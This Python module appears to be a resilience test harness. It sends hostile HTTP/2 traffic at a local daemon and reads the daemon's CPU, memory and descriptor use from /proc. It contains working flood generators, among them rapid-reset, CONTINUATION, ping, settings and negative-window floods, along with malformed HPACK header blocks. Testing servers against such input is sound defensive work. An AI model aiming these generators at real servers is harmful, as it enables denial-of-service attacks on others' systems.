"""attack: peers that mean harm, and what they cost the daemon.

A Flood sends pieces as fast as they are taken, reads (or not) what comes back, and says how it
ended. The attacks are generators of pieces; how many is the caller's choice, so that the same
ones serve the tests and the full-size proof.
"""
import itertools
import os
import select
import socket
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS = 0, 1, 2, 3, 4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1

NO_ERROR, PROTOCOL_ERROR, FLOW_CONTROL_ERROR = 0, 1, 3
COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 9, 11

PATIENCE = 90  # seconds until an attack gives up: nothing should ever come near it


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def request(path="/health", method="GET", **fields):
    """A header block that any connection understands at any time: nothing enters a table."""
    head = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a")]
    pairs = head + [(name.replace("_", "-"), value) for name, value in fields.items()]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in pairs])


GRPC = dict(
    path="/crawbl.agentruntime.v1.AgentRuntime/Converse",
    method="POST",
    te="trailers",
    content_type="application/grpc",
)
START = PREFACE + frame(SETTINGS)


class Ending:
    """What became of a connection: its frames, how many bytes it took, who closed it."""

    def __init__(self):
        self.received = bytearray()
        self.sent = 0
        self.closed = False
        self.seconds = 0.0

    @property
    def frames(self):
        at = 0
        while at + 9 <= len(self.received):
            size = int.from_bytes(self.received[at : at + 3], "big")
            kind, flags, stream = struct.unpack(">BBI", self.received[at + 3 : at + 9])
            if at + 9 + size > len(self.received):
                return
            yield kind, flags, stream, bytes(self.received[at + 9 : at + 9 + size])
            at += 9 + size

    def count(self, kind):
        return sum(1 for each in self.frames if each[0] == kind)

    @property
    def goaway(self):
        """The last stream that was looked at, the code and the words of the last GOAWAY."""
        found = None
        for kind, _, _, payload in self.frames:
            if kind == GOAWAY:
                found = (*struct.unpack(">II", payload[:8]), payload[8:].decode())
        return found

    @property
    def code(self):
        return self.goaway[1] if self.goaway else None


def dial(port, narrow=False):
    peer = socket.socket()
    if narrow:  # take as little as the kernel lets us
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    peer.connect(("127.0.0.1", port))
    return peer


def attack(port, pieces, start=START, reads=True, patience=PATIENCE):
    """Send `start` and the pieces until they are all sent and answered, or the daemon closes.
    After the last piece it has `patience` to close; an attack is over at once when it does."""
    ending = Ending()
    pieces, queue = iter(pieces), start
    began = time.monotonic()
    with dial(port, narrow=not reads) as peer:
        peer.setblocking(False)
        while time.monotonic() - began < patience:
            if len(queue) < 65536:
                queue += b"".join(itertools.islice(pieces, 4096))
            if not queue and not reads:
                break
            readable, writable, _ = select.select([peer], [peer] if queue else [], [], 0.5)
            try:
                if writable:
                    sent = peer.send(queue[:262144])
                    ending.sent, queue = ending.sent + sent, queue[sent:]
                if readable and reads and not _read(peer, ending):
                    break
            except ConnectionError:
                _drain(peer, ending)
                break
    ending.seconds = time.monotonic() - began
    return ending


def _read(peer, ending):
    part = peer.recv(262144)
    ending.received += part
    ending.closed = ending.closed or not part
    return bool(part)


def _drain(peer, ending):
    ending.closed = True
    try:
        while part := peer.recv(262144):
            ending.received += part
    except OSError:
        pass


# --- the attacks ------------------------------------------------------------------------------


def rapid_resets(count, block):
    for stream in range(1, 2 * count, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(
            RESET, 0, stream, struct.pack(">I", 8)
        )


def continuations(count, block=b"\0\x01a\x01b" * 8):
    yield frame(HEADERS, END_STREAM, 1, request())
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, block)


def pings(count):
    return itertools.repeat(frame(PING, 0, 0, b"12345678"), count)


def empty_settings(count):
    return itertools.repeat(frame(SETTINGS), count)


def priorities(count):
    return itertools.repeat(frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 10)), count)


def empty_data(count, block):
    yield frame(HEADERS, END_HEADERS, 1, block)
    yield from itertools.repeat(frame(DATA, 0, 1), count)


def settings_entries(count):
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * count)


def negative_windows(count, block):
    """Open streams whose windows then flip below zero and back, again and again."""
    for stream in range(1, 21, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)
    for _ in range(count // 2):
        for size in (0, 0x7FFFFFFF):
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


def unknown_frames(count):
    for kind in itertools.islice(itertools.cycle(range(16, 256)), count):
        yield frame(kind, 0xFF, 0, b"x" * 32)


# Header blocks that no decoder may accept (row H6).
BROKEN_BLOCKS = {
    "a table size above the limit": b"\x3f\xe1\xff\x7f",
    "index 0": b"\x80",
    "an index that is not there": b"\xff\xff\xff\x0f",
    "the end of string symbol in Huffman": b"\x00\x84\xff\xff\xff\xff\x01a",
    "an integer with 10,000 leading zero groups": b"\x7f" + b"\x80" * 10000 + b"\x01",
    "a string of 4 GiB": b"\x00\x7f\x81\xff\xff\xff\x0f" + b"a" * 64,
}


# --- what it costs ----------------------------------------------------------------------------


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as file:
        fields = file.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def resident_bytes(pid):
    with open(f"/proc/{pid}/statm") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def descriptors(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


def threads(pid):
    return len(os.listdir(f"/proc/{pid}/task"))
